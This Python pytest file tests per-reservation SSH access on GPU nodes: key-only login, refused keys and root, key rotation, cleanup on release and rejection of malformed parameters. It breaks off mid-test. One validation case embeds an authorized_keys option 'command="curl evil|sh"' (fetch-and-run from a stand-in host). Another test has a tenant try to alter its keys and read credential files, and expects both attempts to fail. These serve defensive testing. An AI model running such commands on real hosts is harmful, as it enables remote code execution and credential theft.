"""SSH access to a reservation (``params.access``, the ``access`` command), through real servers (OpenSSH's
sshd, and the agent's own on asyncssh) and the real ``ssh`` client: a tenant logs in with its key, as
its reservation's account, and sees only its GPUs; other keys, root and passwords are refused; a newer
key list replaces the old for the next login, an older one changes nothing; release ends every session
and removes the account and its files, and a second release changes nothing; malformed params set up
nothing, and a failing image step leaves nothing behind.

Accounts are made when the tests run as root (as the agent on a GPU host does); the state directories
then lie under /run, whose parents an account can pass through (pytest's own are 0700). Whatever a
failed test leaves (accounts, processes) is removed by the ``access_dir`` fixture's finalizer."""

import asyncio
import contextlib
import getpass
import json
import os
import pwd
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
import uuid
from pathlib import Path

import pytest

from provisioning.agent import cli
from provisioning.agent.backends.simulated import SimulatedBackend
from provisioning.agent.drivers.access import servers
from provisioning.agent.drivers.access.accounts import account_name
from provisioning.agent.drivers.base import DriverError
from provisioning.agent.drivers.process import ProcessDriver
from provisioning.agent.drivers.simulated import SimulatedDriver
from provisioning.agent.state import state_lock
from tests.agent.harness import FakeConsole, enrolled, make_agent, running
from tests.agent.test_drivers import Progress

pytestmark = pytest.mark.skipif(
    shutil.which("ssh") is None or shutil.which("ssh-keygen") is None,
    reason="the OpenSSH client (ssh, ssh-keygen) is not installed: logins cannot be tried (.ci/run installs it)",
)

ROOT = os.geteuid() == 0
NODE_GPUS = 8
GRACE_S = 0.5
SSHD, SSHD_MISSING = servers.usable_sshd()
OPENSSH = pytest.param(
    "openssh",
    marks=pytest.mark.skipif(SSHD is None, reason=f"no usable sshd: {SSHD_MISSING} (.ci/run installs openssh-server)"),
)
SERVERS = [OPENSSH, "asyncssh"]
IMAGE = {
    "slug": "ubuntu-22.04-cuda-12.4",
    "name": "Ubuntu 22.04 · CUDA 12.4 · PyTorch 2.5",
    "steps": [{"name": "install CUDA 12.4 userspace", "seconds": 1.5}, {"name": "install PyTorch 2.5", "seconds": 1}],
}
INVENTORY = SimulatedBackend(hostname="n1", gpus=NODE_GPUS, seed=1).inventory().gpus


# --- Fixtures and helpers ---


@pytest.fixture
def access_dir(tmp_path):
    """A directory for state directories that a reservation's account can pass through; on teardown
    every account made under it and every process started from it or for its reservations is gone."""
    base = Path(tempfile.mkdtemp(prefix="neocloud-access-test-", dir="/run" if ROOT else tmp_path))
    base.chmod(0o711)
    yield base
    _remove_everything_under(base)


def _remove_everything_under(base: Path) -> None:
    reservations = set()
    for registry in base.rglob("access.json"):
        reservations.update(json.loads(registry.read_text()))
    accounts = [entry for entry in pwd.getpwall() if entry.pw_dir.startswith(str(base))]
    for _ in range(50):
        left = processes_of(reservations, {entry.pw_uid for entry in accounts}, base)
        if not left:
            break
        for pid in left:
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGKILL)
        time.sleep(0.05)
    for entry in accounts:
        subprocess.run(["userdel", entry.pw_name], capture_output=True)
    shutil.rmtree(base, ignore_errors=True)


def processes_of(reservations: set[str], uids: set[int], base: Path | None = None) -> list[int]:
    """What still runs for the reservations: as their accounts, with their marker, or (``base``) from
    their directories. Read from /proc here, not with the agent's own code."""
    markers = {f"NEOCLOUD_RESERVATION={reservation}".encode() for reservation in reservations}
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            status = (entry / "status").read_text()
            if "\nState:\tZ" in status:
                continue
            uid_line = next(line for line in status.splitlines() if line.startswith("Uid:"))
            environ = set((entry / "environ").read_bytes().split(b"\0"))
            mentions_base = base is not None and str(base).encode() in (entry / "cmdline").read_bytes()
        except (OSError, StopIteration):
            continue
        if uids & {int(value) for value in uid_line.split()[1:]} or markers & environ or mentions_base:
            found.append(int(entry.name))
    return found


def client_key(tmp_path: Path, name: str) -> tuple[Path, str]:
    """A new key pair of a tenant's: the private key's path and the public key's line."""
    path = tmp_path / name
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", f"{name}@laptop", "-f", str(path)], check=True)
    return path, path.with_suffix(".pub").read_text().strip()


def ssh_argv(access: dict, key: Path, *, user: str | None = None, tty: bool = False) -> list[str]:
    argv = ["ssh", "-F", "/dev/null", "-i", str(key), "-p", str(access["port"]), "-o", "BatchMode=yes"]
    argv += ["-o", "IdentitiesOnly=yes", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null"]
    argv += ["-o", "LogLevel=ERROR", "-o", "ConnectTimeout=5", *(["-tt"] if tty else [])]
    return [*argv, f"{user or access['user']}@127.0.0.1"]


async def ssh_apart(access: dict, key: Path, command: str, **options) -> tuple[int, str, str]:
    """Log in as a tenant would, run ``command``; the client's status (255: not let in), what the
    command wrote to its output and to its errors."""
    client = await asyncio.create_subprocess_exec(
        *ssh_argv(access, key, **options),
        command,
        stdin=asyncio.subprocess.DEVNULL,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
    )
    output, errors = await client.communicate()
    return client.returncode, output.decode().replace("\r\n", "\n"), errors.decode()


async def ssh(access: dict, key: Path, command: str, **options) -> tuple[int, str]:
    """``ssh_apart`` with the command's output and errors together (errors last)."""
    status, output, errors = await ssh_apart(access, key, command, **options)
    return status, output + errors


async def ways_in(access: dict) -> str:
    """The authentication methods the server offers, as the client hears them when it tries none."""
    argv = ["ssh", "-v", "-F", "/dev/null", "-p", str(access["port"]), "-o", "BatchMode=yes"]
    argv += ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "PubkeyAuthentication=no"]
    client = await asyncio.create_subprocess_exec(
        *argv,
        f"{access['user']}@127.0.0.1",
        "true",
        stdin=asyncio.subprocess.DEVNULL,
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.PIPE,
    )
    _, errors = await client.communicate()
    return next(line for line in errors.decode().splitlines() if "Authentications that can continue" in line)


def tenant_user(reservation: str) -> str:
    return account_name(reservation) if ROOT else getpass.getuser()


def account_exists(user: str) -> bool:
    return subprocess.run(["getent", "passwd", user], capture_output=True).returncode == 0


def simulated(state_dir: Path, **options) -> SimulatedDriver:
    return SimulatedDriver(
        gpu_count=NODE_GPUS, speed=100, state_dir=state_dir, server_grace_s=GRACE_S, inventory=INVENTORY, **options
    )


def real(state_dir: Path, **options) -> ProcessDriver:
    return ProcessDriver(
        state_dir=state_dir,
        gpu_count=NODE_GPUS,
        grace_s=GRACE_S,
        access_listen="127.0.0.1",
        access_host="127.0.0.1",
        **options,
    )


DRIVERS = {"simulated": simulated, "process": real}


def provision(keys: list[str], gpus: list[int] | None = None, version: int = 1, **params) -> dict:
    return {
        "reservation": str(uuid.uuid4()),
        "gpus": [4, 5] if gpus is None else gpus,
        "image": IMAGE,
        "access": {"keys": keys, "version": version},
        **params,
    }


def nvidia_smi_lines(gpus: list[int]) -> list[str]:
    return [f"GPU {gpu.index}: {gpu.name} (UUID: {gpu.uuid})" for gpu in INVENTORY if gpu.index in gpus]


async def host_key_seen_by_the_client(port: int) -> str:
    scan = await asyncio.create_subprocess_exec(
        "ssh-keyscan",
        "-p",
        str(port),
        "-t",
        "ed25519",
        "127.0.0.1",
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.DEVNULL,
    )
    keys, _ = await scan.communicate()
    listing = subprocess.run(["ssh-keygen", "-l", "-f", "-"], input=keys, capture_output=True, check=True)
    return listing.stdout.decode().split()[1]


# --- Logging in ---


@pytest.mark.parametrize("server", SERVERS)
async def test_a_tenant_logs_in_to_a_simulated_node_as_its_account_and_sees_only_its_gpus(access_dir, tmp_path, server):
    driver = simulated(access_dir / "state", ssh_server=server)
    key, public = client_key(tmp_path, "alice")
    other, _ = client_key(tmp_path, "mallory")
    params, progress = provision([public]), Progress()

    detail = await driver.provision(params, progress)
    access = detail["access"]
    try:
        status, output = await ssh(access, key, "echo $CUDA_VISIBLE_DEVICES; nvidia-smi -L; id -un")
        login_shell = await ssh(access, key, "bash -lc 'nvidia-smi -L'")  # /etc/profile sets PATH anew
        refused, _ = await ssh(access, other, "true")
        as_root, _ = await ssh(access, key, "true", user="root")
        offered = await ways_in(access)
        fingerprint = await host_key_seen_by_the_client(access["port"])
        held = driver.holdings()
    finally:
        await driver.release(params, Progress())

    user = tenant_user(params["reservation"])
    assert (status, output.splitlines()) == (0, ["4,5", *nvidia_smi_lines([4, 5]), user])
    assert ROOT is False or login_shell == (0, "".join(f"{line}\n" for line in nvidia_smi_lines([4, 5])))
    assert (refused, as_root) == (255, 255), "another key, and root, are not let in"
    assert offered.endswith("Authentications that can continue: publickey"), "no passwords"
    assert access == {
        "host": "127.0.0.1",
        "port": access["port"],
        "user": user,
        "server": server,
        "host_key": fingerprint,
    }
    assert detail["image"] == IMAGE["slug"]
    assert [step for step, _ in progress.reports] == [
        "wipe disks",
        "prepare image: install CUDA 12.4 userspace",
        "prepare image: install PyTorch 2.5",
        "configure network",
        "configure network",
        "install keys",
        "start access",
        "start access",
    ]
    percents = [percent for _, percent in progress.reports]
    assert percents == sorted(percents) and percents[-1] == 100
    assert held == {params["reservation"]: (4, 5)}, "a reservation logged into holds its GPUs"


@pytest.mark.parametrize("server", SERVERS)
async def test_a_tenant_logs_in_to_a_real_node_where_the_image_steps_ran_as_its_account(access_dir, tmp_path, server):
    driver = real(access_dir / "state", ssh_server=server)
    key, public = client_key(tmp_path, "alice")
    steps = [
        {"name": "note who runs it", "run": ["sh", "-c", "id -un > step.txt; pwd >> step.txt"]},
        {"name": "note the GPUs", "run": ["sh", "-c", "echo $CUDA_VISIBLE_DEVICES $NEOCLOUD_GPUS >> step.txt"]},
    ]
    params = provision([public], gpus=[6], image={"slug": "plain", "name": "Plain", "steps": steps})
    progress = Progress()

    detail = await driver.provision(params, progress)
    try:
        status, output = await ssh(detail["access"], key, "cat step.txt; echo $CUDA_VISIBLE_DEVICES; id -un; pwd")
        on_a_terminal, terminal = await ssh(detail["access"], key, "tty", tty=True)
        much = await ssh_apart(detail["access"], key, "seq 1 100000; echo done >&2")  # all of both, then the status
    finally:
        await driver.release(params, Progress())

    user, home = tenant_user(params["reservation"]), output.splitlines()[-1]
    assert (status, output.splitlines()) == (0, [user, home, "6 6", "6", user, home])
    assert ROOT is False or home == str(access_dir / "state" / "access" / params["reservation"] / "home")
    assert (on_a_terminal, terminal.strip().startswith("/dev/pts/")) == (0, True), "a terminal when asked"
    assert much == (0, "".join(f"{number}\n" for number in range(1, 100001)), "done\n")
    assert "pid" not in detail and detail["gpus"] == [6], "no workload: a node rented to log into"
    assert [step for step, _ in progress.reports] == [
        "prepare image: note who runs it",
        "prepare image: note the GPUs",
        "prepare image: note the GPUs",
        "install keys",
        "start access",
        "start access",
    ]


async def test_without_a_usable_sshd_the_agents_own_server_lets_the_tenant_in(access_dir, tmp_path, monkeypatch):
    key, public = client_key(tmp_path, "alice")
    monkeypatch.setattr(servers, "SSHD", str(tmp_path / "no-sshd"))
    monkeypatch.setenv("PATH", "/usr/bin:/bin")  # nor any other sshd (sshd is in sbin)
    driver = simulated(access_dir / "state")
    params = provision([public])

    detail = await driver.provision(params, Progress())
    try:
        status, output = await ssh(detail["access"], key, "id -un")
    finally:
        await driver.release(params, Progress())
    with pytest.raises(DriverError, match="this node cannot run OpenSSH for access: OpenSSH's sshd is not installed"):
        await simulated(access_dir / "state", ssh_server="openssh").provision(provision([public]), Progress())

    assert detail["access"]["server"] == "asyncssh"
    assert (status, output.strip()) == (0, tenant_user(params["reservation"]))


@pytest.mark.skipif(not ROOT, reason="a tenant is an account of its own only when the agent runs as root (as CI does)")
@pytest.mark.parametrize("server", SERVERS)
async def test_the_tenant_cannot_change_its_keys_nor_read_the_nodes_secrets(access_dir, tmp_path, server):
    state_dir = enrolled(access_dir / "state")
    driver = simulated(state_dir, ssh_server=server)
    key, public = client_key(tmp_path, "alice")
    params = provision([public])
    access = (await driver.provision(params, Progress()))["access"]
    directory = state_dir / "access" / params["reservation"]
    try:
        attempts = [
            await ssh(access, key, f"echo {GOOD_KEY} >> {directory / 'authorized_keys'}"),
            await ssh(access, key, f"mv {directory / 'authorized_keys'} {directory / 'old'}"),
            await ssh(access, key, f"echo > {directory / 'bin' / 'nvidia-smi'}"),
            await ssh(access, key, f"cat {directory / 'host_key'}"),
            await ssh(access, key, f"cat {state_dir / 'credentials.json'}"),
            await ssh(access, key, f"ls {state_dir}"),
        ]
        home = await ssh(access, key, "touch mine && ls -ld $HOME | cut -d' ' -f1,3")
        server_pid = json.loads((state_dir / "access.json").read_text())[params["reservation"]]["pid"]
        server_uids = Path(f"/proc/{server_pid}/status").read_text().split("Uid:")[1].split()[:4]
        account_uid = str(pwd.getpwnam(access["user"]).pw_uid)
    finally:
        await driver.release(params, Progress())

    assert [status for status, _ in attempts] == [1, 1, 1, 1, 1, 2], [output for _, output in attempts]
    assert home == (0, f"drwx------ {access['user']}\n")
    if server == "asyncssh":  # started as root, it became the account before it let anyone in
        assert set(server_uids) == {account_uid}


# --- Keys ---


@pytest.mark.parametrize("server", SERVERS)
async def test_a_newer_key_list_replaces_the_keys_for_the_next_login_and_an_older_one_changes_nothing(
    access_dir, tmp_path, server
):
    driver = simulated(access_dir / "state", ssh_server=server)
    old, old_public = client_key(tmp_path, "old")
    new, new_public = client_key(tmp_path, "new")
    params = provision([old_public], version=3)
    access = (await driver.provision(params, Progress()))["access"]
    reservation = params["reservation"]
    try:
        before = await ssh(access, old, "true"), await ssh(access, new, "true")
        replaced = await driver.update_access(
            {"reservation": reservation, "keys": [new_public], "version": 4}, Progress()
        )
        after = (await ssh(access, old, "true"))[0], await ssh(access, new, "echo in")
        late = await driver.update_access({"reservation": reservation, "keys": [old_public], "version": 2}, Progress())
        same = await driver.update_access({"reservation": reservation, "keys": [old_public], "version": 4}, Progress())
        still = await ssh(access, old, "true")
    finally:
        await driver.release(params, Progress())

    assert [status for status, _ in before] == [0, 255]
    assert replaced == {"reservation": reservation, "version": 4, "keys": 1, "applied": True}
    assert after == (255, (0, "in\n")), "the removed key is refused, the new one let in, the server not restarted"
    assert late == same == {"reservation": reservation, "version": 4, "keys": 1, "applied": False}
    assert still[0] == 255, "a key list older than the one applied changes nothing"


async def test_keys_of_a_reservation_without_access_are_refused(access_dir):
    driver = simulated(access_dir / "state")
    update = {"reservation": str(uuid.uuid4()), "keys": [], "version": 1}
    with pytest.raises(DriverError, match="^this reservation has no SSH access on this node$"):
        await driver.update_access(update, Progress())
    with pytest.raises(DriverError, match="^this node's driver sets up no access$"):
        await SimulatedDriver(gpu_count=NODE_GPUS).update_access(update, Progress())


# --- Release ---


@pytest.mark.parametrize("server", SERVERS)
@pytest.mark.parametrize("driver_name", ["simulated", "process"])
async def test_release_ends_every_session_and_removes_the_account_and_its_files(
    access_dir, tmp_path, server, driver_name
):
    state_dir = access_dir / "state"
    driver = DRIVERS[driver_name](state_dir, ssh_server=server)
    key, public = client_key(tmp_path, "alice")
    params = provision([public])
    reservation = params["reservation"]
    access = (await driver.provision(params, Progress()))["access"]
    user = access["user"]
    uid = pwd.getpwnam(user).pw_uid if ROOT else -1
    # A process that outlives its session (and, as an account, one that shed the marker too), and an
    # interactive shell on a terminal (bash ignores SIGTERM).
    unmarked = "env -i setsid sleep 600 </dev/null >/dev/null 2>&1 & " if ROOT else ""
    detached = await ssh(access, key, f"setsid sleep 600 </dev/null >/dev/null 2>&1 & {unmarked}echo detached")
    shell = await asyncio.create_subprocess_exec(
        *ssh_argv(access, key, tty=True),
        stdin=asyncio.subprocess.PIPE,
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.DEVNULL,
    )
    for _ in range(200):
        if len(processes_of({reservation}, {uid})) >= 3:  # the server, the sleep, the shell at least
            break
        await asyncio.sleep(0.02)
    running_before = processes_of({reservation}, {uid})
    progress = Progress()

    released = await driver.release(params, progress)
    async with asyncio.timeout(5):
        shell_status = await shell.wait()
    again, again_progress = await driver.release(params, Progress()), Progress()
    after, _ = await ssh(access, key, "true")

    assert detached == (0, "detached\n") and len(running_before) >= 3
    assert (released["gpus"], released["stopped"]) == ([4, 5], True)
    assert [step for step, _ in progress.reports] == ["stop access", "remove account", "remove account"]
    assert processes_of({reservation}, {uid}) == [], "nothing of the reservation runs"
    assert shell_status == 255, "the open session was cut"
    assert after == 255, "no login any more"
    assert not (state_dir / "access" / reservation).exists()
    assert json.loads((state_dir / "access.json").read_text()) == {}
    assert ROOT is False or not account_exists(user)
    assert driver.holdings() == {}
    assert again["gpus"] == [] and again_progress.reports == [], "a second release changes nothing"


async def test_an_access_outlives_an_agent_restart_on_a_real_host_and_is_then_updated_and_released(
    access_dir, tmp_path
):
    state_dir = access_dir / "state"
    key, public = client_key(tmp_path, "alice")
    new, new_public = client_key(tmp_path, "new")
    params = provision([public])
    access = (await real(state_dir).provision(params, Progress()))["access"]

    restarted = real(state_dir)
    await restarted.shutdown()  # an agent stopping leaves a real host's access running
    again = real(state_dir)
    logged_in = await ssh(access, key, "echo still")
    held = again.holdings()
    reprovisioned = await again.provision(params, Progress())
    updated = await again.update_access(
        {**params["access"], "reservation": params["reservation"], "keys": [new_public], "version": 2}, Progress()
    )
    with_new = await ssh(access, new, "echo new")
    released = await again.release(params, Progress())

    assert logged_in == (0, "still\n")
    assert held == {params["reservation"]: (4, 5)}
    assert reprovisioned["already_running"] is True and reprovisioned["access"] == access
    assert updated["applied"] is True and with_new == (0, "new\n")
    assert released["stopped"] is True and again.holdings() == {}


async def test_a_simulated_host_stops_its_ssh_servers_with_its_agent_and_keeps_their_records(access_dir, tmp_path):
    state_dir = access_dir / "state"
    key, public = client_key(tmp_path, "alice")
    params = provision([public])
    driver = simulated(state_dir)
    access = (await driver.provision(params, Progress()))["access"]

    await driver.shutdown()
    stopped = await ssh(access, key, "true")
    after_restart = simulated(state_dir)
    held = after_restart.holdings()
    released = await after_restart.release(params, Progress())

    assert stopped[0] == 255, "a pretend host's servers do not outlive its agent"
    assert processes_of({params["reservation"]}, set(), state_dir) == []
    assert held == {params["reservation"]: (4, 5)}, "its GPUs are held until the release"
    assert released["gpus"] == [4, 5] and after_restart.holdings() == {}
    assert ROOT is False or not account_exists(access["user"])


@pytest.mark.parametrize("server", SERVERS)
async def test_a_simulated_nodes_ssh_servers_come_back_with_its_agent_on_their_ports_with_their_host_keys(
    access_dir, tmp_path, server
):
    state_dir = enrolled(access_dir / "state")
    key, public = client_key(tmp_path, "alice")
    params = provision([public])
    first = simulated(state_dir, ssh_server=server)
    access = (await first.provision(params, Progress()))["access"]
    host_key = await host_key_seen_by_the_client(access["port"])
    await first.shutdown()
    while_stopped, _ = await ssh(access, key, "true")

    async with FakeConsole() as console:
        backend = SimulatedBackend(hostname="n1", gpus=NODE_GPUS, seed=1)
        async with running(make_agent(console.url, state_dir, driver=simulated(state_dir), backend=backend)):
            await console.next_frame()  # hello: the servers are started before the agent connects
            logged_in = await ssh(access, key, "echo $CUDA_VISIBLE_DEVICES; nvidia-smi -L; id -un")
            host_key_again = await host_key_seen_by_the_client(access["port"])
            reprovisioned = await simulated(state_dir).provision(params, Progress())
    after_the_agent, _ = await ssh(access, key, "true")
    await simulated(state_dir).release(params, Progress())

    assert while_stopped == 255
    assert logged_in == (0, "".join(f"{line}\n" for line in ["4,5", *nvidia_smi_lines([4, 5]), access["user"]]))
    assert host_key_again == host_key == access["host_key"], "the host key the console shows is still right"
    assert reprovisioned["already_running"] is True and reprovisioned["access"] == access
    assert after_the_agent == 255, "and they stop with it again"


def recorded_pid(state_dir: Path, reservation: str) -> int:
    return json.loads((state_dir / "access.json").read_text())[reservation]["pid"]


def servers_of(state_dir: Path, reservation: str) -> list[int]:
    """The reservation's SSH servers: what runs with its directory on its command line (sessions do not)."""
    return processes_of(set(), set(), state_dir / "access" / reservation)


async def test_a_real_hosts_agent_starting_leaves_a_running_ssh_server_alone_and_starts_a_dead_one_again(
    access_dir, tmp_path
):
    state_dir = access_dir / "state"
    key, public = client_key(tmp_path, "alice")
    params = provision([public])
    reservation = params["reservation"]
    access = (await real(state_dir).provision(params, Progress()))["access"]
    host_key = await host_key_seen_by_the_client(access["port"])
    first = recorded_pid(state_dir, reservation)

    await real(state_dir).start()  # an agent restarted while the server runs
    servers_after_a_restart = servers_of(state_dir, reservation)
    os.kill(first, signal.SIGKILL)
    for _ in range(100):
        if first not in servers_of(state_dir, reservation):
            break
        await asyncio.sleep(0.02)
    await real(state_dir).start()
    second = recorded_pid(state_dir, reservation)
    logged_in = await ssh(access, key, "echo back")
    host_key_again = await host_key_seen_by_the_client(access["port"])
    await real(state_dir).release(params, Progress())

    assert servers_after_a_restart == [first], "no second server"
    assert second != first and servers_of(state_dir, reservation) == []
    assert logged_in == (0, "back\n") and host_key_again == host_key


async def test_a_server_whose_port_was_taken_meanwhile_is_left_down_with_a_warning(access_dir, tmp_path, caplog):
    state_dir = access_dir / "state"
    _, public = client_key(tmp_path, "alice")
    params = provision([public])
    first = simulated(state_dir)
    access = (await first.provision(params, Progress()))["access"]
    await first.shutdown()

    with socket.socket() as squatter:
        squatter.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        squatter.bind(("127.0.0.1", access["port"]))
        squatter.listen()
        await simulated(state_dir).start()
        servers = servers_of(state_dir, params["reservation"])
    await simulated(state_dir).release(params, Progress())

    assert servers == [], "nothing was started on another port"
    assert (
        f"the SSH server of reservation {params['reservation']} cannot start again: its port {access['port']} on "
        "127.0.0.1 is not free (Address already in use)"
    ) in caplog.messages


async def test_gpus_a_reservation_logged_into_holds_are_refused_to_another(access_dir, tmp_path):
    driver = real(access_dir / "state")
    _, public = client_key(tmp_path, "alice")
    params = provision([public], gpus=[2, 3])
    await driver.provision(params, Progress())
    try:
        with pytest.raises(DriverError, match="GPU 3 of this node is held by another reservation"):
            await driver.provision(
                {"reservation": str(uuid.uuid4()), "gpus": [3], "command": ["sleep", "60"]}, Progress()
            )
    finally:
        await driver.release(params, Progress())


# --- Refusals and failures ---

GOOD_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl alice@laptop"
REFUSED = [
    pytest.param({"image": "ubuntu"}, "params.image must be an object", id="image not an object"),
    pytest.param({"image": {"name": "x", "steps": []}}, "params.image.slug", id="image without slug"),
    pytest.param({"image": {"slug": "u", "steps": {}}}, "params.image.steps must be a list", id="steps not a list"),
    pytest.param({"image": {"slug": "u", "steps": [{"run": ["true"]}]}}, r"steps\[0\].name", id="step without name"),
    pytest.param({"image": {"slug": "u", "steps": [{"name": "a\nb"}]}}, r"steps\[0\].name", id="step name two lines"),
    pytest.param(
        {"image": {"slug": "u", "steps": [{"name": "a", "run": "true"}]}}, r"steps\[0\].run", id="run a string"
    ),
    pytest.param(
        {"image": {"slug": "u", "steps": [{"name": "a", "run": ["true", 1]}]}}, r"\.run", id="run not strings"
    ),
    pytest.param({"image": {"slug": "u", "steps": [{"name": "a", "seconds": -1}]}}, r"\.seconds", id="seconds < 0"),
    pytest.param({"image": {"slug": "u", "steps": [{"name": "a", "seconds": True}]}}, r"\.seconds", id="seconds bool"),
    pytest.param({"access": []}, "params.access must be an object", id="access not an object"),
    pytest.param({"access": {"keys": [GOOD_KEY]}}, "params.access.version", id="no version"),
    pytest.param({"access": {"keys": [GOOD_KEY], "version": True}}, "params.access.version", id="version bool"),
    pytest.param({"access": {"keys": GOOD_KEY, "version": 1}}, "params.access.keys must be a list", id="keys a string"),
    pytest.param(
        {"access": {"keys": [GOOD_KEY + "\nssh-ed25519 AAAA mallory"], "version": 1}},
        r"params.access.keys\[0\] holds a line break",
        id="a newline in a key",
    ),
    pytest.param(
        {"access": {"keys": ['command="curl evil|sh" ' + GOOD_KEY], "version": 1}},
        r"keys\[0\] starts with 'command=",
        id="authorized_keys options",
    ),
    pytest.param(
        {"access": {"keys": ["ssh-ed25519 bm90IGEga2V5 alice"], "version": 1}},
        r"keys\[0\] is not a ssh-ed25519 key",
        id="not a key",
    ),
    pytest.param(
        {"access": {"keys": ["ssh-rsa " + GOOD_KEY.split()[1]], "version": 1}},
        r"keys\[0\] is not a ssh-rsa key",
        id="another type's key",
    ),
    pytest.param({"access": {"keys": [GOOD_KEY], "version": 1}, "gpus": [9]}, "GPU 9", id="a GPU it lacks"),
]


@pytest.mark.parametrize(("params", "message"), REFUSED)
@pytest.mark.parametrize("driver_name", ["simulated", "process"])
async def test_malformed_params_are_refused_before_anything_is_set_up(access_dir, driver_name, params, message):
    state_dir = access_dir / "state"
    driver, progress = DRIVERS[driver_name](state_dir), Progress()
    reservation = str(uuid.uuid4())
    base = {"reservation": reservation, "gpus": [0], "image": IMAGE, "access": {"keys": [GOOD_KEY], "version": 1}}

    with pytest.raises(DriverError, match=message):
        await driver.provision({**base, **params}, progress)

    assert progress.reports == [], "refused before any step"
    assert not (state_dir / "access").exists() and not (state_dir / "access.json").exists()
    assert not account_exists(account_name(reservation))
    assert driver.holdings() == {}


async def test_a_failing_image_step_fails_the_provisioning_and_leaves_nothing(access_dir, tmp_path):
    state_dir = access_dir / "state"
    driver = real(state_dir)
    _, public = client_key(tmp_path, "alice")
    steps = [
        {"name": "start a daemon", "run": ["sh", "-c", "setsid sleep 600 </dev/null >/dev/null 2>&1 &"]},
        {"name": "install drivers", "run": ["sh", "-c", "echo fetching; echo 'E: no such package' >&2; exit 3"]},
        {"name": "never reached", "run": ["touch", "reached"]},
    ]
    params = provision([public], image={"slug": "broken", "name": "Broken", "steps": steps})
    reservation, progress = params["reservation"], Progress()

    with pytest.raises(
        DriverError, match=r"^image step 'install drivers' exited with status 3; its last output: 'E: no such package'$"
    ):
        await driver.provision(params, progress)

    assert [step for step, _ in progress.reports] == ["prepare image: start a daemon", "prepare image: install drivers"]
    assert processes_of({reservation}, set(), state_dir) == [], "the step's daemon was ended too"
    assert not (state_dir / "access" / reservation).exists()
    assert json.loads((state_dir / "access.json").read_text()) == {}
    assert not account_exists(account_name(reservation))
    assert driver.holdings() == {}


async def test_an_ssh_server_that_exits_at_once_fails_with_its_last_words_and_leaves_nothing(
    access_dir, tmp_path, monkeypatch
):
    fake = tmp_path / "sshd"
    fake.write_text("#!/bin/sh\necho 'sshd: no hostkeys available -- exiting.' >&2\nexit 1\n")
    fake.chmod(0o755)
    monkeypatch.setattr(servers, "SSHD", str(fake))
    state_dir = access_dir / "state"
    driver = simulated(state_dir, ssh_server="openssh")
    _, public = client_key(tmp_path, "alice")
    params = provision([public])

    with pytest.raises(
        DriverError,
        match=r"^the SSH server exited with status 1 before it listened; its last output: "
        r"'sshd: no hostkeys available -- exiting.'$",
    ):
        await driver.provision(params, Progress())

    assert not (state_dir / "access" / params["reservation"]).exists()
    assert not account_exists(account_name(params["reservation"]))
    assert driver.holdings() == {}


async def test_a_server_that_cannot_listen_on_its_address_fails_cleanly(access_dir, tmp_path):
    driver = simulated(access_dir / "state", access_listen="203.0.113.7")  # TEST-NET-3: no address of this host
    _, public = client_key(tmp_path, "alice")
    params = provision([public])
    with pytest.raises(DriverError, match="^the SSH server cannot listen on 203.0.113.7: "):
        await driver.provision(params, Progress())
    assert driver.holdings() == {} and not account_exists(account_name(params["reservation"]))


async def test_a_node_without_a_state_directory_sets_up_no_access():
    with pytest.raises(DriverError, match="has no state directory, so it cannot set up SSH access"):
        await SimulatedDriver(gpu_count=NODE_GPUS, speed=100).provision(provision([GOOD_KEY]), Progress())


async def test_a_provisioning_without_access_is_as_before(access_dir):
    """No ``access``: the simulated steps of old (the image's in place of "flash image"), the process
    driver's ``command`` still required."""
    driver = simulated(access_dir / "state")
    detail = await driver.provision({"reservation": str(uuid.uuid4()), "gpus": [0], "image": IMAGE}, Progress())
    with pytest.raises(DriverError, match="params.command must be a non-empty list of strings"):
        await real(access_dir / "state").provision({"reservation": str(uuid.uuid4()), "gpus": [1]}, Progress())

    assert detail["steps"] == [
        "wipe disks",
        "prepare image: install CUDA 12.4 userspace",
        "prepare image: install PyTorch 2.5",
        "configure network",
        "start runtime",
    ]
    assert "access" not in detail and not (access_dir / "state" / "access.json").exists()


# --- Through the agent and its command line ---


async def test_the_access_command_reaches_the_driver_through_the_agent(access_dir, tmp_path):
    state_dir = enrolled(access_dir / "state")
    _, public = client_key(tmp_path, "alice")
    _, new_public = client_key(tmp_path, "new")
    params = provision([public])
    commands = [
        {"type": "command", "id": str(uuid.uuid4()), "kind": "provision", "params": params},
        {
            "type": "command",
            "id": str(uuid.uuid4()),
            "kind": "access",
            "params": {"reservation": params["reservation"], "keys": [public, new_public], "version": 2},
        },
        {
            "type": "command",
            "id": str(uuid.uuid4()),
            "kind": "release",
            "params": {"reservation": params["reservation"]},
        },
    ]
    results = []
    async with FakeConsole() as console:
        backend = SimulatedBackend(hostname="n1", gpus=NODE_GPUS, seed=1)
        async with running(make_agent(console.url, state_dir, driver=simulated(state_dir), backend=backend)):
            await console.next_frame()  # hello
            for command in commands:
                await console.send(command)
                frames = await console.frames_until(lambda frame: frame["type"] == "result")
                results.append(frames[-1])

    assert [result["ok"] for result in results] == [True, True, True], results
    assert results[1]["detail"] == {"reservation": params["reservation"], "version": 2, "keys": 2, "applied": True}


async def test_the_fleets_nodes_tell_tenants_the_access_host_and_list_the_backends_gpus(access_dir, tmp_path):
    args = cli._parser().parse_args(
        ["fleet", "--server", "http://127.0.0.1:9", "--tokens", "t.json", "--state-dir", str(access_dir)]
        + ["--access-host", "fleet-host.example", "--speed", "100"]
    )
    backend = SimulatedBackend(hostname="n7", gpus=4, gpu_name="NVIDIA A100-SXM4-40GB", seed=7)
    driver = cli._driver(args, access_dir / "n7", "n7", backend)  # noqa: SLF001 - the CLI's own wiring
    key, public = client_key(tmp_path, "alice")
